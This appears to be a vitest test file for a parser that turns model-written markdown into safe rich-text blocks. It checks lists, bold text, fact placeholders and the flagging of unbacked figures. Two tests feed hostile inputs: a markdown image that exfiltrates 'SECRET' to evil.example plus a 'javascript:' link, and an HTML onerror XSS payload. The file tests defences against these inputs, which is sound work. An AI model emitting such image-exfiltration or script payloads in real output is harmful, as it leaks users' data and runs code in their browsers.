import { expect, test } from 'vitest'
import { parseRich, plainText } from './rich-text.ts'

test('paragraphs, lists, bold and facts are read; everything else stays text', () => {
  expect(parseRich('A **bold {{lost}}** word.\n\n- one\n- two')).toEqual([
    {
      kind: 'p',
      children: [
        { kind: 'text', text: 'A ' },
        {
          kind: 'strong',
          children: [
            { kind: 'text', text: 'bold ' },
            { kind: 'fact', id: 'lost' },
          ],
        },
        { kind: 'text', text: ' word.' },
      ],
    },
    { kind: 'ul', items: [[{ kind: 'text', text: 'one' }], [{ kind: 'text', text: 'two' }]] },
  ])
})

test('an image or link of a model becomes words with the host, never an address that is opened', () => {
  const [block] = parseRich('![logo](https://evil.example/?d=SECRET) and [here](javascript:alert(1))')
  const text = JSON.stringify(block)
  expect(text).toContain('logo (evil.example)')
  expect(text).not.toContain('SECRET')
  expect(text).not.toContain('javascript')
  expect(text).not.toContain('"href"')
})

test('HTML stays the text that it is', () => {
  expect(parseRich('<img src=x onerror=alert(1)>')).toEqual([
    { kind: 'p', children: [{ kind: 'text', text: '<img src=x onerror=alert(1)>' }] },
  ])
})

test('a figure that nothing backs is cut out of its text, each time it stands there', () => {
  const [block] = parseRich('Up 10% and again 10%.', ['10%'])
  expect(block).toEqual({
    kind: 'p',
    children: [
      { kind: 'text', text: 'Up ' },
      { kind: 'unverified', text: '10%' },
      { kind: 'text', text: ' and again ' },
      { kind: 'unverified', text: '10%' },
      { kind: 'text', text: '.' },
    ],
  })
})

test('copied text has the figures in words', () => {
  expect(plainText('**Lost** {{lost}}.\n\n\n\nEnd', (id) => (id === 'lost' ? '$1.00M' : ''))).toBe(
    'Lost $1.00M.\n\nEnd',
  )
})
